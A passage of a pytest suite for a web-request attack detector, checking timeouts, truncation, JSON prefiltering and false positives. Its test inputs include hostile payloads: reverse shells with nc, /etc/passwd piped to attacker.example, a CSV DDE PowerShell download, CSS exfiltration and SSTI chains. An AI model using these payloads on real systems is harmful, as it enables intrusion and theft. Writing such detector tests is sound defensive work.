    assert result["is_threat"] and result["attack_class"] == "custom"
    assert engine.remove_pattern(r"forbidden-\d+", custom=True)
    assert not engine.detect("value forbidden-42")["is_threat"]
    assert not engine.remove_pattern(r"forbidden-\d+", custom=True)


def test_backtracking_custom_pattern_gets_a_real_timeout() -> None:
    engine = DetectionEngine(SecurityConfig(detection_compiler_timeout=0.2))
    pattern = r"^(\w|\w\w)+\1\d"
    entry = engine.add_pattern(pattern, custom=True)
    assert not entry.linear
    hostile = "a" * 5000 + "!"
    started = time.perf_counter()
    result = engine.detect(hostile)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.2 + 1.0, elapsed
    assert result["timeouts"] == [pattern]
    assert result["is_threat"]
    problems = engine.get_performance_stats()["problematic_patterns"]
    assert any(p["pattern"] == entry.id and p["timeouts"] == 1 for p in problems)


def test_invalid_pattern_raises_and_changes_nothing() -> None:
    engine = DetectionEngine()
    before = engine.get_all_patterns()
    with pytest.raises(ValueError, match=r"unbalanced|missing|unterminated"):
        engine.add_pattern("(unclosed", custom=True)
    with pytest.raises(PatternError):
        engine.add_pattern("", custom=True)
    assert engine.get_all_patterns() == before


def test_default_pattern_listing() -> None:
    engine = DetectionEngine()
    engine.add_pattern(r"zz-default-\d", custom=False)
    assert r"zz-default-\d" in engine.get_default_patterns()
    assert r"zz-default-\d" not in engine.get_custom_patterns()


def test_attack_after_padding_is_preserved() -> None:
    engine = DetectionEngine()
    padded = "a" * 1_000_000 + " <script>alert(1)</script>"
    result = engine.detect(padded)
    assert result["truncated"] and result["original_length"] == len(padded)
    assert result["processed_length"] <= 10000
    assert result["is_threat"] and result["attack_class"] == "xss"


def test_encoded_attack_after_padding_is_preserved() -> None:
    engine = DetectionEngine()
    result = engine.detect("b" * 300_000 + "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert result["truncated"] and result["is_threat"]


def _long_values() -> list[str]:
    lines = (Path(__file__).parent / "corpora" / "prose_tuning.jsonl").read_text("utf-8")
    benign = [json.loads(line)["payload"] for line in lines.split("\n") if line.strip()]
    # Long bodies of benign prose without an indicator (lines no rule matches), each cut
    # somewhere inside a sentence.
    patterns = DetectionEngine()._patterns
    quiet = [line for line in benign
             if "`" not in line and not any(hits for _, hits in patterns.scan_raw(line)[0])]
    body = " ".join(quiet)
    return [body[start * 10 : start * 10 + 10_001 + 7 * start] for start in range(0, 1200, 150)]


@pytest.mark.parametrize("value", _long_values(), ids=lambda v: f"{len(v)}-chars")
def test_a_long_clean_value_reuses_its_indicator_scan(
    value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A value with no indicator is cut to its head, and the scan that found none stands for
    # the head's own: the verdict is the one a fresh scan of the head gives.
    engine = DetectionEngine()
    kept, _length, truncated, prescanned = engine._limited(value)
    assert truncated
    fresh = engine._analyze(kept, "request_body", True)
    reused = engine._analyze(kept, "request_body", True, prescanned)
    assert reused == fresh
    if "encoded" not in engine._patterns.scan_raw(value)[1]:
        assert prescanned is not None
        calls: list[str] = []
        real = detector._PatternSet.scan_raw
        monkeypatch.setattr(detector._PatternSet, "scan_raw",
                            lambda self, text, prefilter=False: calls.append(text)
                            or real(self, text, prefilter))
        engine.detect(value)
        # The indicator pass, plus the canonical view's scan when a decoder changes the head.
        assert len(calls) == 1 + int(named_views(kept)[0] is not kept)


def test_truncation_without_preservation_is_reported() -> None:
    engine = DetectionEngine(SecurityConfig(detection_preserve_attack_patterns=False))
    result = engine.detect("a" * 20000 + "<script>alert(1)</script>")
    assert result["truncated"] is True
    assert result["processed_length"] == 10000
    assert not result["is_threat"]


@pytest.mark.parametrize(
    "hostile",
    ["${a(" * 2000, "{{" * 5000, "a" * 1_000_000, "%25" * 100_000, "'" * 200_000,
     "<" * 100_000, "../" * 100_000, "\\x41" * 100_000],
    ids=["dollar-brace", "braces", "1MB-a", "nested-percent", "quotes", "angles", "dots", "hex"],
)
def test_adversarial_input_finishes(engine: DetectionEngine, hostile: str) -> None:
    started = time.perf_counter()
    engine.detect(hostile)
    assert time.perf_counter() - started < 5.0


def test_time_grows_linearly(engine: DetectionEngine) -> None:
    def cost(n: int) -> float:
        value = "${a(" * n
        best = float("inf")
        for _ in range(3):
            started = time.perf_counter()
            engine.detect(value)
            best = min(best, time.perf_counter() - started)
        return best

    small, large = cost(500), cost(4000)
    assert large < small * 8 * 4 + 0.05, (small, large)


def test_monitor_history_is_bounded() -> None:
    config = SecurityConfig(detection_monitor_history_size=10, detection_max_tracked_patterns=5)
    engine = DetectionEngine(config)
    for i in range(8):
        engine.add_pattern(rf"bounded-{i}-x", custom=True)
    for i in range(8):
        for _ in range(30):
            engine.detect(f"bounded-{i}-x")
    stats = engine.get_performance_stats()
    assert stats["summary"]["tracked_patterns"] <= 5
    assert all(len(s.history) <= 10 for s in engine.monitor._stats.values())


def test_component_status_reflects_state(tmp_path: Path) -> None:
    broken = DetectionEngine(analyzer=SemanticAnalyzer(tmp_path / "missing.json"))
    status = broken.get_component_status()
    assert status["semantic_analyzer"] is False
    assert status["compiler"] is True and status["preprocessor"] is True
    assert broken.detect("1 UNION SELECT password FROM users")["is_threat"]


def test_batch_prefilter_never_hides_a_detection(engine: DetectionEngine) -> None:
    """Whatever ``screen`` flags alone, ``screen_many`` flags inside a batch and the JSON
    prefilter refuses to clear (the soundness the request path relies on)."""
    from guard.request_parts import json_strings
    from tests.conftest import CORPUS

    with CORPUS.open(encoding="utf-8") as handle:
        rows = [json.loads(line) for line in handle]
    attacks = [r["payload"] for r in rows if r["label"] == "attack"][::25]
    fillers = ["blue shoes", "Seán O'Brien", "2024-03-15", "price_desc", "ok", "/home"]
    checked = 0
    for payload in attacks:
        if not (engine.screen(payload, "json", semantic=False) or {}).get("is_threat"):
            continue
        checked += 1
        values = [*fillers, payload, *fillers]
        flagged = dict(engine.screen_many(values, ["json"] * len(values), semantic=False))
        assert len(fillers) in flagged and flagged[len(fillers)]["is_threat"], payload
        document = {"a": fillers, "payload": payload, "nested": {"k": fillers}}
        for body in (json.dumps(document), json.dumps(document, indent=2)):
            strings = json_strings(document, body)
            assert not engine.strings_are_clean(strings, semantic=False), payload
    assert checked > 400


@pytest.mark.parametrize(
    "payload",
    ["%0Anslookup${IFS}attacker.example", "x%0acat${IFS}/etc/passwd", "a%0D%0Aid", "%0a$(id)"],
)
def test_json_prefilter_keeps_a_decoded_break_before_a_command(
    engine: DetectionEngine, payload: str
) -> None:
    """A decoded break (``%0A``) is the separator a later view's rule needs before the line it
    starts: the body's strings, read line by line, must not lose it (the heldout line that
    only the model used to send to value-by-value screening)."""
    from guard.request_parts import json_strings

    assert engine.screen(payload, "json", semantic=False)["is_threat"]  # type: ignore[index]
    document = {"order": {"note": payload}}
    body = json.dumps(document)
    assert not engine.strings_are_clean(json_strings(document, body), semantic=False)


def test_json_prefilter_never_clears_what_the_model_flags(engine: DetectionEngine) -> None:
    """With the model on, a body whose string the model (or a rule) flags is never cleared
    whole, compact or pretty-printed, the first time or the second (when the other strings
    come from the memo)."""
    from guard.request_parts import json_strings
    from tests.conftest import CORPUS

    with CORPUS.open(encoding="utf-8") as handle:
        rows = [json.loads(line) for line in handle]
    attacks = [r["payload"] for r in rows if r["label"] == "attack"][7::29]
    checked = 0
    for payload in attacks:
        if not (engine.screen(payload, "json", semantic=True) or {}).get("is_threat"):
            continue
        checked += 1
        document = {"note": "Leave it at the door", "items": [{"text": payload, "n": 2}]}
        for body in (json.dumps(document), json.dumps(document, indent=4)) * 2:
            strings = json_strings(document, body)
            assert not engine.strings_are_clean(strings, semantic=True), payload
    assert checked > 400


def _strings_in(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [*node, *(s for value in node.values() for s in _strings_in(value))]
    if isinstance(node, list):
        return [s for value in node for s in _strings_in(value)]
    return []


@pytest.mark.parametrize("indent", [None, 2, "\t"])
@pytest.mark.parametrize("ensure_ascii", [True, False])
@pytest.mark.parametrize(
    "document",
    [
        {"k\"ey": ["a\nb", "c\\", {"d": "e f", "g": [1, True, None, "h"]}], "": ""},
        {"order": "A-1", "items": [{"sku": "S-1", "note": "it's a gift"}], "n": 2.5, "e": ""},
        {"comment": "\u00bcscript\u00bealert(1)", "name": "Se\u00e1n", "tab": "a\tb"},
    ],
)
def test_json_strings_are_what_the_application_reads(
    document: dict[str, Any], indent: int | str | None, ensure_ascii: bool
) -> None:
    """Split at the quotes (no escape in the body) or walked (escapes), the strings are the
    document's keys and string values as decoded."""
    from guard.request_parts import json_strings

    body = json.dumps(document, indent=indent, ensure_ascii=ensure_ascii)
    assert sorted(json_strings(json.loads(body), body)) == sorted(_strings_in(document))


def test_json_prefilter_reads_escaped_strings_decoded(engine: DetectionEngine) -> None:
    """A rule that matches a value as the application reads it also matches it in a body that
    escapes it: ``\\u00bc`` is the 0xBC byte that 7-bit readers take for ``<``."""
    from guard.request_parts import json_strings

    payload = "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be"
    assert engine.detect(payload)["is_threat"]
    document = {"comment": payload}
    body = json.dumps(document)
    assert "\\u00bc" in body
    assert not engine.strings_are_clean(json_strings(document, body), semantic=False)


@pytest.mark.parametrize(
    "value",
    [
        "Is `WHERE 1=1` in a dynamic query builder bad practice, or just a convenience?",
        "Use {% include \"partials/nav.html\" %} to share the navigation bar.",
        "echo %JAVA_HOME% prints nothing, so the variable is not set.",
    ],
)
def test_single_moderate_hit_in_prose_is_not_a_threat(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    "value",
    [
        "(case when 6398=6398 then 1 else null end)",
        "' or username is not NULL or username = '",
        "Is `WHERE 1=1` in a dynamic query builder bad practice? <script>alert(1)</script>",
        "Is %60WHERE%201%3D1%60 in a dynamic query builder bad practice, or just a convenience?",
    ],
)
def test_prose_discount_keeps_attacks(engine: DetectionEngine, value: str) -> None:
    assert engine.detect(value)["is_threat"]


PADDING = " and then some ordinary words follow here, as a note to the team would read"


@pytest.mark.parametrize(
    "attack",
    [
        "; cat /etc/passwd | nc attacker.example 4444",
        "*)(uid=*))(|(uid=*",
        "| id",
        "' OR 1=1 --",
        "$(id)",
    ],
)
def test_sentences_padded_onto_a_breakout_do_not_make_it_prose(
    engine: DetectionEngine, attack: str
) -> None:
    """An attacker can append ordinary words to any payload; a value that opens by breaking out
    of its host syntax is judged as an attack, not as a sentence quoting one."""
    assert engine.detect(attack + PADDING)["is_threat"]


@pytest.mark.parametrize("prefix", ["x", "report.pdf"])
@pytest.mark.parametrize("separator", ["; ", "| ", "&& ", "\n"])
@pytest.mark.parametrize("command", ["id", "sleep 5", "nc 10.0.0.1 4444 -e /bin/sh"])
@pytest.mark.parametrize("end", ["; ", " # ", " & "])
def test_a_command_injected_after_a_value_survives_padding(
    engine: DetectionEngine, prefix: str, separator: str, command: str, end: str
) -> None:
    """The usual shape of a command injection, ``<value><separator><command><end>``, followed
    by sentences: the padding dilutes the model's features and makes the value read as prose,
    and neither may cost the detection."""
    assert engine.detect(prefix + separator + command + end + PADDING)["is_threat"]


@pytest.mark.parametrize(
    "payload",
    [
        '<a href="javascript:alert(1)">x</a>',
        "1) where 1100=1100 and sleep(5)--",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
    ],
)
def test_a_sentence_after_a_payload_does_not_discount_it(
    engine: DetectionEngine, payload: str
) -> None:
    """A sentence after a payload makes the value read as prose; read close up, the payload is
    still one (the model on the text around the hit), so its rules keep their full score."""
    assert engine.detect(payload + PADDING)["is_threat"]


def test_a_greeting_line_keeps_a_message_prose() -> None:
    """A line break after the first token is a breakout only after a bare token: a message that
    opens with a greeting line still reads as the prose it is."""
    message = ("Hi,\nI tried SELECT * FROM users WHERE id = 1 and it returned nothing, what is "
               "wrong with the query?")
    assert not DetectionEngine().detect(message)["is_threat"]


@pytest.mark.parametrize(
    "value",
    [
        "wget -r -np -k https://docs.example.org/manual/ -o /home/me/mirror.log",
        "curl -L -o /home/me/guide.pdf https://docs.example.org/guide.pdf",
        "wget --mirror https://www.example.org/docs/ -P /srv/mirror",
    ],
)
def test_the_model_doubts_one_shell_rule_on_a_documented_command(
    engine: DetectionEngine, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A command line as a manual shows it trips one shell rule, yet the model, on the value and
    close around the match, is sure it is not an attack: the hit then counts for less."""
    assert not engine.detect(value)["is_threat"]
    monkeypatch.setattr(detector, "MODEL_DOUBT", 0.0)
    assert engine.detect(value)["is_threat"]


def _hostile_runs(n: int) -> list[str]:
    return ["' " + " " * n + "x", "'" + ")" * n, "'\"" * n, "{{" * n + "}}", "{% " + "x " * n,
            "{{ a }} " * (n // 7), "<" * n, "<script " + "a" * n, "\\" * n, "../" * (n // 3),
            "word " * (n // 5), "%{" * n, "${" * n, "#{" * n, "C:\\" * n, "'\t" + "\t " * n]


def test_every_confirmer_stays_linear_on_hostile_runs() -> None:
    """Confirmers use Python's backtracking ``re`` on text an attacker controls: a quantifier
    pair like ``\\s*\\)*\\s*`` is quadratic on a long run of spaces. 20,000 characters in
    a quadratic confirmer take seconds; the bound only catches that."""
    from guard.engine.confirm import CONFIRMERS

    for name, check in CONFIRMERS.items():
        for value in _hostile_runs(20_000):
            started = time.perf_counter()
            check(value, value)
            assert time.perf_counter() - started < 0.5, (name, value[:20])


def test_backtracking_patterns_share_one_deadline() -> None:
    """Two slow custom patterns on one value take one timeout, not two, and both count."""
    engine = DetectionEngine(SecurityConfig(detection_compiler_timeout=0.3))
    patterns = [r"^(\w|\w\w)+\1\d", r"^(a|aa)+(?=$)"]
    for pattern in patterns:
        assert not engine.add_pattern(pattern, custom=True).linear
    hostile = "a" * 5000 + "!"
    started = time.perf_counter()
    result = engine.detect(hostile)
    elapsed = time.perf_counter() - started
    assert result["is_threat"]
    assert sorted(result["timeouts"]) == sorted(patterns)
    assert elapsed < 0.3 + 0.15, elapsed  # two separate budgets would take 0.5 s or more


@pytest.mark.parametrize(
    ("regex", "text"),
    [
        (r"union\s+select", "1' UNION  SELECT a FROM b"),
        (r"union\s+select", "nothing to see"),
        (r"^x$", "x"),
        (r"a*", ""),
        (r"caf\xe9", "un café crème"),
        (r"<script", "é" * 40 + "<SCRIPT>"),
    ],
)
def test_fragment_span_is_what_re2_search_finds(regex: str, text: str) -> None:
    """The fragment's span comes from RE2's compiled object directly (the public ``search``
    wraps it in a generator); both must find the same span, or none."""
    from guard.engine.matcher import _re2_options, _re2_text, encode, span_finder

    compiled = re2.compile(_re2_text(MatchSpec(regex, True)), _re2_options())
    data = encode(text)
    match = compiled.search(data)
    assert span_finder(regex, True)(data) == (None if match is None else match.span())


def test_confirm_gates_only_skip_hits_that_would_stand() -> None:
    """A gate that is false for a value must mean its confirmer lets every hit stand there:
    checked on each match of the gated rules in the development and generated corpora."""
    from guard.engine.confirm import CONFIRM_GATES, CONFIRMERS
    from guard.engine.rules import RULES

    gated = [rule for rule in RULES if rule.confirm in CONFIRM_GATES]
    assert gated
    compiled = [(rule, re.compile(rule.regex, re.IGNORECASE | re.DOTALL)) for rule in gated]
    root = Path(__file__).parent / "corpora"
    checked = 0
    for name in ("dev.jsonl", "generated_tuning.jsonl", "prose_tuning.jsonl"):
        for line in (root / name).read_text("utf-8").split("\n"):
            if not line:
                continue
            value = json.loads(line)["payload"]
            for rule, pattern in compiled:
                confirm = rule.confirm or ""
                if CONFIRM_GATES[confirm](value):
                    continue
                for match in pattern.finditer(value):
                    checked += 1
                    assert CONFIRMERS[confirm](match.group(), value), (rule.id, value[:60])
    assert checked > 100


def test_every_match_of_a_rule_holds_its_cue() -> None:
    """A rule's cue stands in for it in the database (Rule.cue), so it must match wherever the
    rule does: checked with RE2, as the detector reads both, on every value and every view of
    the development, held-out and generated corpora, and with the matcher's own flags."""
    import re2

    from guard.engine.matcher import MatchSpec, _re2_options, _re2_text, linear_compile_error
    from guard.engine.normalize import views
    from guard.engine.rules import RULES

    cued = [rule for rule in RULES if rule.cue is not None]
    assert len(cued) >= 8
    compiled = []
    for rule in cued:
        assert rule.cue is not None
        assert linear_compile_error(rule.cue, default_flags=True) is None, rule.id
        compiled.append((rule.id, *(re2.compile(_re2_text(MatchSpec(r, True)), _re2_options())
                                    for r in (rule.regex, rule.cue))))
    root = Path(__file__).parent / "corpora"
    matched = 0
    for name in ("dev.jsonl", "heldout.jsonl", "generated_tuning.jsonl"):
        for line in (root / name).read_text("utf-8").split("\n"):
            if not line:
                continue
            value = json.loads(line)["payload"]
            for text in (value, *views(value)):
                data = text.encode("utf-8", "surrogatepass")
                for rule_id, rule, cue in compiled:
                    if rule.search(data):
                        matched += 1
                        assert cue.search(data), (rule_id, text[:80])
    assert matched > 1000


def test_a_cue_hit_without_its_rule_counts_for_nothing(engine: DetectionEngine) -> None:
    """Values that hold a rule's cue but not the rule: no hit of that rule, in any view."""
    for value, rule_id in [
        ("Great price -- and it ships in two days", "sqli-comparison-comment"),
        ("page=3&per_page=50", "sqli-numeric-tautology"),
        ("see the manual (select a size first)", "sqli-subquery"),
        ("the form checks that a == b before it saves", "nosql-where-js"),
    ]:
        result = engine.detect(value, exhaustive=True)
        ids = {t.get("pattern_id") for t in result["threats"] + result["signals"]}
        assert rule_id not in ids, value
    result = engine.detect("1--x%0AOR--y%0A1=1", exhaustive=True)
    assert "sqli-numeric-tautology" in {t.get("pattern_id") for t in result["threats"]}


SETTLED_AS_SENT = [
    "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "x'; DROP TABLE users; -- '\"",
    "%0A%0A<svg onload=alert(1)>",
    "<script>alert('a' + \"b\")</script> # trailing comment",
]


@pytest.mark.parametrize("value", SETTLED_AS_SENT)
def test_a_conclusive_hit_as_sent_skips_the_lossy_views(
    value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = DetectionEngine()
    full = DetectionEngine()
    monkeypatch.setattr(full, "_settled_as_sent", lambda *args: False)
    settled, exhaustive = engine.detect(value), full.detect(value)
    assert settled["is_threat"] and exhaustive["is_threat"]
    assert settled["threat_score"] >= detector.CONCLUSIVE_SCORE
    # The canonical view is still read, so the class a decoded delivery names stands.
    assert settled["attack_class"] == exhaustive["attack_class"]
    scanned: list[str] = []
    for name, databases in engine._patterns.by_view.items():
        matcher = databases[0][0]
        monkeypatch.setattr(matcher, "scan", lambda text, m=matcher, n=name:
                            scanned.append(n) or type(m).scan(m, text))
    engine.detect(value)
    assert scanned == []


def test_the_shortcut_never_changes_a_verdict_or_its_class(engine: DetectionEngine) -> None:
    values = [case["input"] for case in CASES] + SETTLED_AS_SENT
    for value in values:
        for context in ("query_param", "request_body", "header"):
            settled = engine.detect(value, context=context)
            full = engine.detect(value, context=context, exhaustive=True)
            assert settled["is_threat"] == full["is_threat"], (value, context)
            assert settled["attack_class"] == full["attack_class"], (value, context)


def test_a_confirmer_that_reads_the_whole_value_answers_once_per_view(
    monkeypatch: pytest.MonkeyPatch
) -> None:
    from guard.engine import confirm

    calls: list[str] = []
    real = confirm.CONFIRMERS["template_expression_active"]
    monkeypatch.setitem(confirm.CONFIRMERS, "template_expression_active",
                        lambda fragment, view: calls.append(view) or real(fragment, view))
    value = "Hello {{ 7*7 }} and {{ config.items() }}"
    result = DetectionEngine().detect(value)
    hits = {t["pattern_id"] for t in result["threats"] + result["signals"]}
    confirmed = {r.id for r in detector.RULES if r.confirm == "template_expression_active"}
    assert len(hits & confirmed) >= 2
    assert len(calls) == len(set(calls))


@pytest.mark.parametrize("floor", [None, 0.95, 0.99, 0.9999, 0.99991, 0.99992])
def test_settling_early_never_changes_what_a_route_acts_on(
    engine: DetectionEngine, floor: float | None
) -> None:
    # A route's min_score raises the bar the shortcut must clear: the values a route blocks
    # are the ones an exhaustive screening scores at or above its floor.
    def acted(result: dict[str, Any] | None) -> bool:
        return bool(result and result["is_threat"]
                    and (floor is None or result["threat_score"] >= floor))

    values = [case["input"] for case in CASES] + SETTLED_AS_SENT + [
        # One conclusive hit as sent (0.9); the views and confirmed hits add the rest.
        "1' and/**/6990=6990;select/**/count(*)/**/from rdb$fields--",
        "1'||(select 'ezse' from dual where 3821=3821;select count(*) from generate_series(1,5)--",
        "{php}echo `id`;{/php}",
        # Conclusive hits as sent reach 0.99992 unrounded, 0.9999 as reported: a route
        # blocking from 0.99991 must read on to the base64 view's UNION SELECT.
        "<xi:include <!--#echo /e?c/x* a\nHTTP/1.1 200 eCBVTklPTiBTRUxFQ1Q=",
    ]
    for value in values:
        settled = engine.screen(value, "query_param", True, floor)
        # A bar no score reaches: every view is read and every hit confirmed.
        exhaustive = engine.detect(value, context="query_param", exhaustive=True)
        assert acted(settled) == acted(exhaustive), (value, floor)


@pytest.mark.parametrize("value", [
    "1' and/**/6990=6990;select/**/count(*)/**/from rdb$fields--",
    "{php}echo `id`;{/php}",
])
def test_a_raised_floor_reads_on_past_one_conclusive_hit(
    engine: DetectionEngine, value: str
) -> None:
    # One conclusive hit as sent scores 0.9-0.97 alone; the rest of the evidence takes these
    # past 0.99, so a route blocking from 0.99 still blocks them.
    assert engine.detect(value)["threat_score"] < 0.99
    result = engine.screen(value, "query_param", True, 0.99)
    assert result is not None and result["threat_score"] >= 0.99


def test_a_confirmer_judges_the_match_it_was_given(engine: DetectionEngine) -> None:
    # The first "/etc/passwd" is named in a sentence, the second is a parameter's target: the
    # later match is confirmed where it stands, not at the first copy of its text.
    value = "The file /etc/passwd lists accounts on every host; see also x=/etc/passwd"
    rules = {t["pattern_id"] for t in engine.detect(value, exhaustive=True)["threats"]}
    assert "path-sensitive-file" in rules
    from guard.engine.confirm import MATCH_AT, locate

    assert locate(value, "etc/passwd") == value.find("etc/passwd")
    token = MATCH_AT.set(value.rfind("etc/passwd"))
    try:
        assert locate(value, "etc/passwd") == value.rfind("etc/passwd")
        assert locate(value, "lists") == value.find("lists")
    finally:
        MATCH_AT.reset(token)


@pytest.mark.parametrize(("value", "attack_class"), [
    # cmd.exe drops a caret before a letter: one in the command word is enough.
    ("&c^md /c wh^oam^i", "cmdi"),
    ("; p^owershell -nop -c id", "cmdi"),
    # A command word assembled from variables where a command starts.
    (";a=who;b=ami;$a$b", "cmdi"),
    ("$(${x}${y})", "cmdi"),
    # Aggregation stages that read another collection.
    ('[{"$unionWith": {"coll": "admins", "pipeline": [{"$project": {"password": 1}}]}}]',
     "nosql"),
    ('{"$graphLookup": {"from": "users", "startWith": "$x"}}', "nosql"),
    # MediaWiki-looking tags that reach code are still template injection.
    ("{{Infobox person | name = {{ config.items() }} }}", "ssti"),
    ("{{cite web |url={{self.__init__.__globals__}} }}", "ssti"),
    ("{{#if: {{{image|}}} | {{7*7}} }}", "ssti"),
    ('{{#with "s" as |string|}}{{this.pop}}{{/with}}', "ssti"),
])
def test_spelled_commands_stages_and_wiki_lookalikes(
    engine: DetectionEngine, value: str, attack_class: str
) -> None:
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == attack_class


@pytest.mark.parametrize("value", [
    "{{Infobox person\n| name = Ada Lovelace\n| birth_date = {{birth date|1815|12|10}}\n}}",
    "<ref>{{cite web |url=https://example.com/report.pdf |title=Annual Report}}</ref>",
    "{{#if: {{{image|}}} | [[File:{{{image}}}|250px]] | }}",
    "x^2 + y^2 = z^2, so a^b^c is read right to left",
    "In PHP, echo $a$b; prints both strings",
    "Use $unionWith to combine two collections in one pipeline.",
])
def test_wiki_markup_algebra_and_prose_stay_clean(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # Template and e-mail source from bait 18: rounding to a precision, Liquid's section tag,
    # Jinja's attribute map and number format, and an e-mail's layout CSS.
    ("<tr><td>{{ loop.index }}.</td><td>{{ row.name|title }}</td>"
     "<td>{{ row.score|round(1) }}</td></tr>", False),
    ("{{ content_for_header }}\n{% section 'announcement-bar' %}", False),
    ("{% set total = items|map(attribute='price')|sum %}Total: {{ '%.2f'|format(total) }}",
     False),
    ("<style>@media only screen and (max-width:600px){ .col { width:100% !important; } }"
     "</style>", False),
    ("images/../avatar.png", False),
    # The same filters and elements reaching code, loading or hiding the page.
    ("{{ items|map(attribute='__class__') }}", True),
    ("{{ ['id']|map('system')|join }}", True),
    ('{{ "%c%c"|format(95, 95) }}', True),
    ("<style>input[value^=a]{background:url(https://attacker.example/a)}</style>", True),
    ("<style>html{visibility:hidden}</style>", True),
    ("images/../../../etc/passwd", True),
    ("x;nc.traditional -c bash 10.0.0.1 4444", True),
])
def test_template_filters_styles_and_steps_that_stay_inside(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "attack_class"), [
    # From unseen attack set 18: an extensible LDAP match, a copy header after any form
    # field, git's helper given a command line, an empty endless loop after a breakout, and
    # IIS handlers allowed to script where they write.
    ("login=*)(userAccountControl:1.2.840.113556.1.4.803:=2", "ldap"),
    ("subject=Hello%0d%0aCc:%20everyone@example.com%0d%0a%0d%0aFree money", "crlf"),
    ("git_repo=https://github.com/x/y.git --upload-pack='touch /tmp/pwned'", "cmdi"),
    ('{"query": "\'; while(true){}; var a=\'"}', "nosql"),
    ('<configuration><system.webServer><handlers accessPolicy="Read, Script, Write">'
     '<add name="x" path="*.config" verb="*" modules="IsapiModule"/></handlers>', "file_upload"),
])
def test_unseen_set_18_misses(engine: DetectionEngine, value: str, attack_class: str) -> None:
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == attack_class


@pytest.mark.parametrize("value", [
    "The git clone --upload-pack <upload-pack> option names the program run on the other end.",
    "Use (memberOf:1.2.840.113556.1.4.1941:=cn=Admins,dc=example,dc=com) for nested groups",
    "Thanks!\nCC: Maria",
    "for(;;) loops forever; so does while(true) in JS",
])
def test_unseen_set_18_lookalikes_stay_clean(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # An API reference's HTTP/2 request, written without a version, with a JSON-family type.
    ('PATCH /api/v3/projects/42\nContent-Type: application/merge-patch+json\n\n{"a": null}',
     False),
    # Still injected: a field an injection gains by, a type a browser runs, no message opening.
    ("GET /admin\nX-Forwarded-For: 127.0.0.1", True),
    ("PATCH /x\nContent-Type: text/html\n\n<b>hi</b>", True),
    ("x\r\nContent-Type: application/vnd.api+json", True),
])
def test_a_pasted_versionless_request(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # GitHub's tables escape a pipe inside a cell's code span.
    ("| Command | Description |\n| --- | --- |\n| `ls -la` | list all files |\n"
     "| `cat file \\| wc -l` | count lines |", False),
    ("| `cat /etc/passwd \\| nc evil.example 1` | x |\n|---|---|", True),
])
def test_a_table_cell_may_quote_an_escaped_pipe(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "attack_class"), [
    # From unseen attack set 19: a filter breakout padded with a sentence, spreadsheet DDE in
    # a CSV row, a program run after cmd's separator, an Apache handler override, and CouchDB's
    # admin role in a sign-up document.
    ("I'm looking for *)(objectClass=*)(cn=* in the directory", "ldap"),
    ("name,email,notes\nBob,bob@example.com,=cmd|'/C powershell IEX(wget evil.example/p)'!A0",
     "file_upload"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "file_upload"),
    ('=DDE("cmd";"/C calc";"!A0")', "file_upload"),
    ('john.doe" & calc.exe & "', "cmdi"),
    ("# site config\nOptions +ExecCGI\nAddHandler cgi-script .txt", "file_upload"),
    ('{"type":"user","name":"eve","roles":["_admin"],"roles":[],"password":"x"}', "nosql"),
])
def test_unseen_set_19_misses(engine: DetectionEngine, value: str, attack_class: str) -> None:
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == attack_class


@pytest.mark.parametrize(("value", "flagged"), [
    # Template source from bait 19: a helper given data, a bare sort, Go's with, a Liquid filter
    # given a name, Symfony's app.user in a ternary, Blade's object property, EJS's loop, a Rails
    # form builder, Django's plural, a Handlebars subexpression, vue-i18n's $d.
    ("<% @posts.each do |post| %>\n  <p><%= truncate(post.body, length: 140) %></p>\n<% end %>",
     False),
    ("{% for tag in post.tags|sort %}{{ tag }}{% if not loop.last %}, {% endif %}{% endfor %}",
     False),
    ("{{ with .User }}{{ .Email | lower }}{{ else }}anonymous{{ end }}", False),
    ("{% assign sale = product.compare_at_price | minus: product.price %}\n"
     "{% if sale > 0 %}Save {{ sale | money }}!{% endif %}", False),
    ("{% set greeting = app.user ? 'Hi ' ~ app.user.username : 'Hello guest' %}\n"
     "{{ greeting }}", False),
    ("<p>Thanks for subscribing, {{ $user->name }}!</p>\n<a href=\"{{ route('subscribe') }}\">"
     "Subscribe</a>", False),
    ("<ul>\n<% users.forEach(function(u){ %>\n  <li><%= u.name %></li>\n<% }); %>\n</ul>", False),
    ('<%= form_with model: @comment, local: true do |f| %>\n  <%= f.text_area :body, rows: 3 %>'
     '\n  <%= f.submit "Post comment" %>\n<% end %>', False),
    ("{% blocktrans count counter=list|length %}There is {{ counter }} object.{% plural %}"
     "There are {{ counter }} objects.{% endblocktrans %}", False),
    ('{{#if (eq status "shipped")}}On its way!{{/if}}', False),
    ("{{ $t('profile.lastSeen', { date: $d(lastSeen, 'short') }) }}", False),
    # GitHub Actions expressions, a semicolon CSV whose header starts with id, GraphQL fields.
    ("if: ${{ github.event_name == 'push' && startsWith(github.ref, 'refs/tags/') }}", False),
    ("key: ${{ runner.os }}-pip-${{ hashFiles('**/requirements*.txt') }}", False),
